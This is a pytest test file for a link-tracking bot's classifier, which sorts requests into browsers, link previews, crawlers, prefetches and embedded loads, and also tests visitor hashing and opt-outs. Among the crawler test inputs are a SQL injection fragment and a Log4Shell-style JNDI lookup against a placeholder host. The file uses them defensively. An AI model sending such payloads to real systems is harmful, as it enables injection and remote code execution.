"""Who is a person and who is not, by what requests say about themselves."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from bot.tracking import agents
from bot.tracking.hits import Reason, RequestFacts, classify
from bot.tracking.visitors import keyed, opted_out, visitor_hash
from tests import accuracy

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
ANDROID = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0"
WEB_VIEW = f"{ANDROID.replace('Pixel 8', 'Pixel 8; wv')} Mobile Safari/537.36"
HARMONY = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"


def reason(user_agent: str = CHROME, method: str = "GET", **headers: str) -> Reason | None:
    return classify(RequestFacts(method, user_agent, {k.replace("_", "-"): v for k, v in headers.items()}))


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME,
        *(f"Mozilla/5.0 ({device}; OpenHarmony 5.0) {HARMONY}" for device in ("Phone", "Tablet", "PC", "2in1", "Car")),
        f"Mozilla/5.0 (Phone; OpenHarmony 5.0) {HARMONY} Mobile MicroMessenger/8.0.49(0x28003133) NetType/WIFI",
        *(
            f"{WEB_VIEW} {app}"
            for app in ("CamScanner/6.60.0", "QRScanner/3.2", "Check24/2024", "Grab/5.300 (Android 14)")
        ),
        *(
            f"{IPHONE} Mobile/15E148 {app}"
            for app in ("CamScanner/6.60", "GeniusScan/7.1", "CHECK24/1", "ParcelTrack/3")
        ),
        *(f"{CHROME} {browser}" for browser in ("Atlas/1.0", "Comet/1.0", "Hola/1.210", "Chromium-GOST/140.0")),
        "Mozilla/5.0 (X11; Haiku x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (X11; Fuchsia) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Safari/537.36 CrKey/1.56",
        "Mozilla/5.0 (Cloud Phone; Generic) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        f"{IPHONE} Version/18.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:39.0) Gecko/20100101 Firefox/39.0",
        CHROME.replace("Chrome", "discord/0.0.306 Chrome").replace("Safari", "Electron/30.1.0 Safari"),
        f"{IPHONE} Mobile/15E148 Instagram 334.0.0.30.97 (iPhone15,2; iOS 18_5; en_GB; scale=3.00)",
        f"{IPHONE} Mobile/21F90 [FBAN/FBIOS;FBAV/468.0.0.41.97;FBBV/612345678;FBDV/iPhone15,2;FBSV/18.5]",
        f"{IPHONE} Mobile/15E148 musical_ly_34.5.0 BytedanceWebview/d8a21c6",
        f"{ANDROID} Mobile Safari/537.36 trill_340503 BytedanceWebview/d8a21c6",
        f"{IPHONE} Mobile/15E148 [Pinterest/iOS]",
        f"{IPHONE} Mobile/15E148 Twitter for iPhone/10.45",
        f"{IPHONE} Mobile/15E148 Snapchat/12.90.0.45 (like Safari/8618.2.12, panda)",
        f"{ANDROID} Mobile Safari/537.36 [LinkedInApp]/4.1",
        f"{ANDROID} Mobile Safari/537.36 Telegram-Android/11.3.3 (Google Pixel 8; Android 14; SDK 34; HIGH)",
        f"{ANDROID} Mobile Safari/537.36;KAKAOTALK 2410450",
        CHROME.replace("Safari", "Slack/4.39.90 Electron/31.1.0 Safari"),
        CHROME.replace("Safari", "Teams/1.7.00 Electron/19.1.8 Safari"),
        "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Mobile",
        "Mozilla/5.0 (Linux; Android 11; CUBOT_NOTE_20) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Mobile",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1/190.84; U; en) Presto/2.12.423 Version/12.16",
        "Mozilla/5.0 (Linux; Android 7.0; M bot 51) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0 Mobile",
        f"{CHROME} Edg/126.0.0.0",
        f"{CHROME} OPR/112.0.0.0 (Edition std-1)",
        f"{CHROME} Vivaldi/6.8",
        f"{CHROME} Newcomer/126.0.2592.87",
        f"{CHROME} Newcomer",
        CHROME.replace("Chrome", "Brave Chrome"),
        f"{CHROME} Edg/126.0.0.0 AtContent/95.5.5282.48",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 Waterfox/56.2",
        "w3m/0.5.2 (Linux i686; en; Debian-3.0.6-3)",
        CHROME.replace("Windows NT 10.0; Win64; x64", "X11; openSUSE; Linux x86_64"),
        f"{CHROME},gzip(gfe)",
        f"{ANDROID.replace('Pixel 8', 'Pixel 8; wv')} Mobile Safari/537.36 SomeShop/3.1",
        f"{IPHONE} Version/18.5 Mobile/15E148 Safari/604.1 SomeShop/3.1",
        "Mozilla/5.0 (X11; U; Linux i686; de; rv:1.9.0.4) Gecko/2008111318 Ubuntu/8.04 (hardy) Firefox/3.0.4",
        "Mozilla/4.0 (compatible; ACME; MSIE 7.0; Windows NT 6.1; Trident/7.0; intranet.acme.co.uk)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:38.0) Gecko/20100101 Firefox/38.0",
        "Mozilla/5.0 (Linux; Android 9; PHANTOM_Z) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0 Mobile",
        f"{IPHONE} Mobile/15A432 [FBAN/FBIOS;FBAV/147.0.0.46.81;FBDV/iPhone9,3;FBCR/Telekom.de;FBLC/en_GB]",
        f"{IPHONE} Mobile/15E148 NAVER(inapp; search; 2000; 12.9.1)",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1",
        f"{CHROME},gzip(gfe) (via translate.google.com)",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; de; rv:1.9.2.12) Gecko/20101026 Ant.com Toolbar 2.0.1 Firefox/3.6.12",
        "Mozilla/5.0 (Nintendo 3DS; U; ; de) Version/1.7498.EU",
        "Mozilla/5.0 (Linux; Android 7.1.2; Seoul S8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0 Mobile",
        "Mozilla/5.0 (Linux; Android 4.4.4; ECON Shell LSC320AN10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0",
        f"{ANDROID.replace('Pixel 8', 'MagentaTV Box; wv')} Mobile Safari/537.36",
        "Mozilla/5.0 (masking-agent; rv:52.0) Gecko/20100101 Firefox/52.0",
        "Mozilla/4.0 (compatible; Mozilla/5.0 (X11; Linux x86_64; rv:29.0) Gecko/20100101 Firefox/29.0; Trident/4.0)",
        "Mozilla/4.0 (compatible; MSIE 8.0; AOL 9.7; Windows NT 5.1; Trident/4.0; PhishLock/4.2.0.8734)",
        "Mozilla/5.0 (Unknown; Linux armv7l) AppleWebKit/537.1+ (KHTML, like Gecko) Safari/537.1+ LG Browser/6.00.00",
        "KARBONN_K9 (MRE/3.1.00;MAUI/K9;INDEX/004) Release/2014.12 WAP Browser/MAUI (HTTP PGDL; HTTPS) Profile/ Q03C1",
        "NokiaC5-03/UC Browser8.0.3.107/50/444/UCWEB",
        CHROME.replace("Chrome", "Kiwi Chrome").replace("Windows NT 10.0; Win64; x64", "Linux; Android 9; Pixel 2"),
        CHROME.replace("Windows NT 10.0; Win64; x64", "X11; Manjaro; Linux x86_64"),
        "Mozilla/4.61 [en] (X11; U; ) - BrowseX (2.0.0 Windows)",
        "ZEN X20i/MAUI WAP Browser",
        "ALCATEL_A207BG/1.0 ObigoInternetBrowser/Q05A",
        "Android 4.4.2;AppleWebKit/534.30;Build/KOT49H;IQ4414 Quad Build/KOT49H",
        "OneBrowser/3.1 (SAMSUNG-GT-S5222)",
        "Mozilla/5.0 (PDA; NF35WMPRO/1.0; like Gecko) NetFront/3.5",
        "Mozilla/5.0 (X11; U; Linux i686; de; rv:1.7.12) Gecko/20051010 Firefox/1.0.7 (Ubuntu package 1.0.7)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.9) Gecko/20141110 Firefox/45.9 (Pale Moon)",
        f"{ANDROID} Mobile Safari/537.36 OPR/84.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        "Safari/605.1.15 Ddg/17.4",
        "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0; Microsoft Outlook 16.0.4266; ms-office)",
        "Mozilla/5.0 (Linux; Android 9; Combine X2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0 Mobile",
        CHROME.replace("Win64", "Combines 3"),
    ],
)
def test_browsers_and_in_app_browsers_are_people(user_agent: str) -> None:
    assert reason(user_agent) is None


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:38.0) Gecko/20100101 Firefox/38.0",
        "Twitterbot/1.0",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Slack-ImgProxy (+https://api.slack.com/robots)",
        "TelegramBot (like TwitterBot)",
        "WhatsApp/2.23.20.0 A",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "meta-externalfetcher/1.1",
        f"{IPHONE} Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
        "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)",
        "http.rb/5.1.1 (Mastodon/4.2.8; +https://mastodon.social/)",
        "Pleroma 2.6.2; https://pleroma.example <admin@pleroma.example>",
        "Misskey/2024.5.0 (https://misskey.example)",
        "Iframely/1.3.1 (+https://iframely.com/docs/about)",
        "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)",
        "Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)",
        "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)",
        f"{ANDROID} Mobile Safari/537.36 Google-PageRenderer Google (+https://developers.google.com/+/web/snippet/)",
        "Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
    ],
)
def test_link_previews_are_set_aside(user_agent: str) -> None:
    assert reason(user_agent) is Reason.PREVIEW


@pytest.mark.parametrize(
    "user_agent",
    [
        "",
        "  ",
        "Mozilla/5.0",
        "curl/8.7.1",
        "Wget/1.21.4",
        "python-requests/2.32.3",
        "Python/3.12 aiohttp/3.10.1",
        "python-httpx/0.27.0",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "axios/1.7.2",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Java/17.0.11",
        "libwww-perl/6.77",
        "Apache-HttpClient/4.5.14 (Java/17.0.11)",
        "MyApp/12 CFNetwork/1496.0.7 Darwin/23.5.0",
        CHROME.replace("Chrome", "HeadlessChrome"),
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 Mobile Safari/537.36 (compatible; Bytespider)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0",
        "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
        "Screaming Frog SEO Spider/20.1",
        f"{CHROME} Unheard/1.0",
        f"{CHROME} (Unheard)",
        CHROME.replace("(Windows NT 10.0; Win64; x64) ", ""),
        CHROME.replace("Chrome", "UNHEARD Chrome"),
        CHROME.replace("Gecko)", "Gecko; unheard)"),
        CHROME.replace("Windows NT 10.0; Win64; x64", "Unheard"),
        CHROME.replace("Windows NT 10.0; Win64; x64", "X11; Unheard; Linux x86_64"),
        f"Unheard/1.0 {CHROME}",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0) Unheard/5.2.0.0",
        "Mozilla/4.0 (compatible; MSIE 5.0; Windows NT; UnheardAgent 2.0)",
        "UnheardBrowser/1.0",
        "Mozilla/4.0 (Unheard Browser)",
        CHROME.replace("Chrome", "unheard2png Chrome"),
        f"{IPHONE} Version/7.0 Mobile/11A465 Safari/9537.53 DMBrowser-BV",
        CHROME.replace("Win64", "Combine 3"),
        CHROME.replace("Win64", "pages.unheard.cloud"),
        f"{ANDROID} Mobile Safari/537.36 Gigablast",
        f"{ANDROID.replace('Version/4.0 ', '')} Mobile Safari/537.36 Unheard",
        "Mozilla/5.0 (Windows NT 6.1; rv:6.0) Gecko/20110814 Firefox/6.0 (Unheard 1.0)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        "Safari/605.1.15 (Unheard)",
        CHROME.replace("Gecko)", "Gecko, Unheard)"),
        CHROME.replace("Chrome/", "Trae/1.107.1 Chrome/").replace("Safari/", "Electron/39.2.7 Safari/"),
        "Mozilla/4.0 (compatible; MSIE 4.01; unheard.com)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; U n h e a r d b o t)",
        "Mozilla/4.0 (compatible;)",
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
        "DoCoMo/2.0 N905i(c100;TB;W24H16)",
        f"Unheard, {CHROME}",
        f"unheard/1.6.6, {CHROME}",
        "Mozilla/9.0 (Windows NT 10.0) con_aff/3",
        CHROME.replace("x64)", "x64; OneTrust;)"),
        CHROME.replace("x64)", "x64; Rigor)"),
        "Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) HappyDOM/14.3.3",
        f"{CHROME} ' OR 1=1 --",
        f"{CHROME}${{jndi:ldap://unheard.example/a}}",
        f"{WEB_VIEW} Unheardbot/1.0",
        f"{WEB_VIEW} UnheardScan/1.0 (+http://unheard.example)",
    ],
)
def test_crawlers_libraries_and_monitors_are_set_aside(user_agent: str) -> None:
    assert reason(user_agent) is Reason.CRAWLER


@pytest.mark.parametrize(
    "headers",
    [
        {"sec_purpose": "prefetch"},
        {"sec_purpose": "prefetch;prerender"},
        {"purpose": "prefetch"},
        {"x_purpose": "preview"},
        {"x_moz": "prefetch"},
    ],
)
def test_a_browser_that_loads_ahead_is_set_aside(headers: dict[str, str]) -> None:
    assert reason(**headers) is Reason.PREFETCH


def test_operators_add_patterns_of_their_own() -> None:
    facts = RequestFacts("GET", f"{CHROME} Acme-Kiosk", {})
    patterns = (re.compile("^acme", re.IGNORECASE), re.compile(r"acme-\w+$", re.IGNORECASE))
    assert classify(facts) is None
    assert classify(facts, patterns) is Reason.CRAWLER
    assert classify(facts, patterns[:1]) is None
    assert classify(RequestFacts("GET", "Twitterbot/1.0 acme-x", {}), patterns) is Reason.PREVIEW


SCRIPT = {"accept": "*/*", "accept_encoding": "gzip, deflate"}
PAGE = "text/html,application/xhtml+xml,*/*;q=0.8"


@pytest.mark.parametrize(
    "headers",
    [
        SCRIPT | {"accept": "application/json, text/plain, */*"},
        SCRIPT | {"accept": "application/json", "accept_language": "*", "sec_fetch_mode": "cors"},
        {"accept": PAGE, "accept_language": "en", "sec_ch_ua": '"HeadlessChrome";v="126", "Chromium";v="126"'},
    ],
)
def test_a_script_with_a_browsers_user_agent_is_set_aside(headers: dict[str, str]) -> None:
    assert reason(**headers) is Reason.CRAWLER


EMBEDDED = [
    {"sec_fetch_mode": "no-cors", "sec_fetch_dest": "image"},
    {"sec_fetch_mode": "no-cors", "sec_fetch_dest": "empty"},
    {"sec_fetch_mode": "cors", "sec_fetch_dest": "empty"},
    {"sec_fetch_mode": "no-cors"},
    {"sec_fetch_mode": "nested-navigate"},  # Chrome's 76 to 79, which sent no Sec-Fetch-Dest
    *({"sec_fetch_mode": "navigate", "sec_fetch_dest": dest} for dest in ("iframe", "frame", "object", "fencedframe")),
    {"sec_fetch_dest": "nested-document"},
    {"sec_fetch_dest": "script"},
]


@pytest.mark.parametrize("headers", EMBEDDED)
def test_a_part_of_somebodys_page_is_no_click(headers: dict[str, str]) -> None:
    sent = {"accept_language": "de", "sec_fetch_site": "cross-site"} | headers
    assert reason(**sent) is Reason.EMBEDDED
    assert reason("Twitterbot/1.0", **sent) is Reason.PREVIEW
    assert reason("curl/8.7.1", **sent) is Reason.CRAWLER
    assert reason(**sent, sec_purpose="prefetch") is Reason.PREFETCH
    facts = RequestFacts("GET", CHROME, {name.replace("_", "-"): value for name, value in sent.items()})
    assert classify(facts, opens=False) is None


@pytest.mark.parametrize(
    "headers",
    [{"sec_fetch_mode": "navigate", "sec_fetch_dest": "document"}, {"sec_fetch_mode": "navigate"}, {}],
)
def test_who_follows_a_link_counts(headers: dict[str, str]) -> None:
    assert reason(accept_language="de", sec_fetch_user="?1", **headers) is None


def test_an_agent_that_signs_is_no_person() -> None:
    signed = {"accept_language": "en", "sec_fetch_mode": "navigate", "signature_agent": '"https://chatgpt.com"'}
    assert reason(**signed) is Reason.CRAWLER


@pytest.mark.parametrize(
    ("user_agent", "headers"),
    [
        (CHROME, {}),
        (CHROME, {"accept": PAGE}),
        (CHROME, SCRIPT),
        (CHROME, SCRIPT | {"accept_language": "de"}),
        (CHROME, SCRIPT | {"sec_fetch_site": "none"}),
        (f"{IPHONE} Version/18.5 Mobile/15E148 Safari/604.1", SCRIPT),
        (ANDROID.replace("Pixel 8", "Pixel 8; wv"), SCRIPT),
        (CHROME.replace("126", "49"), SCRIPT),
    ],
)
def test_headers_that_prove_nothing_count(user_agent: str, headers: dict[str, str]) -> None:
    assert reason(user_agent, **headers) is None


def test_most_crawlers_of_public_lists_are_caught() -> None:
    found = accuracy.score(accuracy.CRAWLERS, "measure")
    assert found.n > 3000
    assert found.share >= 0.99


def test_hardly_a_browser_of_public_lists_is_set_aside() -> None:
    found = accuracy.score(accuracy.BROWSERS, "measure")
    assert found.n > 4000
    assert found.share <= 0.003
    recent = accuracy.score(accuracy.BROWSERS[:3], "measure")
    assert recent.set_aside == 0


def test_names_of_crawlers_are_plain_words_that_no_browser_says() -> None:
    names = (Path(agents.__file__).parent / "crawlers.txt").read_text(encoding="utf-8").split()
    assert names == sorted(set(names))
    assert all(name.isascii() and name.isalpha() and name.islower() for name in names)
    browsers = "\n".join(accuracy.read(accuracy.BROWSERS, "work")).lower()
    assert not set(names) & set(re.findall("[a-z]+", browsers))


def test_headers_give_scripts_away_and_no_browser() -> None:
    assert accuracy.score_headers(person=True).set_aside == 0
    assert accuracy.score_headers(person=False).set_aside >= 2


def test_head_and_options_never_count() -> None:
    assert reason(method="HEAD") is Reason.HEAD
    assert reason(method="OPTIONS") is Reason.HEAD
    assert reason("Twitterbot/1.0", method="HEAD") is Reason.HEAD


def test_a_visitor_is_a_63_bit_number_that_only_the_salt_gives_away() -> None:
    salt = keyed(b"s" * 16)
    seen = {visitor_hash(salt, CHROME, f"192.0.2.{n}", "go.example") for n in range(256)}
    assert len(seen) == 256
    assert all(0 <= visitor < 2**63 for visitor in seen)
    assert visitor_hash(salt, CHROME, "192.0.2.1", "go.example") in seen
    assert visitor_hash(keyed(b"t" * 16), CHROME, "192.0.2.1", "go.example") not in seen
    digest = hashlib.blake2b(f"{CHROME}\x00192.0.2.1\x00go.example".encode(), digest_size=8, key=b"s" * 16).digest()
    assert visitor_hash(salt, CHROME, "192.0.2.1", "go.example") == int.from_bytes(digest, "big") >> 1
    assert visitor_hash(salt, "odd \udcff bytes", "192.0.2.1", "go.example") not in seen


def test_opting_out() -> None:
    assert opted_out({"dnt": "1"})
    assert opted_out({"sec-gpc": "1"})
    assert not opted_out({"dnt": "0"})
